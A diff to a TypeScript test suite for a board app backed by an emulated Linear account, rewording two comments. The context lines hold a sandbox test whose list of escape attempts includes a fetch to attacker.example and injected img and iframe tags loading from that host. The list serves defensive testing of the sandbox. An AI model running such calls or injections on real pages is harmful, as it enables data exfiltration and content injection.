@@ -12,7 +12,7 @@ import { hostClient, inspectApp, inspectEverywhere, type Scene, showApp, type St
 const shouldRun = chromiumPath !== undefined || process.env['CI'] === 'true'
 const apiKey = 'lin_api_k3yOfTheBoard'
 
-/** A tracker with an account at a Linear that is our emulator, and the client of a host. */
+/** A tracker with an account at an emulated Linear, and a host's client. */
 async function tracker(settings: ConnectSettings = {}) {
   const emulator = linearEmulator({ seed: 'company', apiKey })
   const documents: string[] = []
@@ -166,7 +166,7 @@ describe.runIf(shouldRun)('the board', () => {
     await stage.app.locator('.card').first().press('Enter')
     await stage.app.locator('.text').waitFor()
     expect(await stage.app.evaluate('globalThis.pwned')).toBeUndefined()
-    // The sandbox stops what the page itself never does.
+    // The sandbox stops things that the page itself never does.
     const escapes = [
       "fetch('https://attacker.example/')",
       "document.body.insertAdjacentHTML('beforeend', '<img src=https://attacker.example/x.png><iframe src=https://attacker.example/></iframe>')",
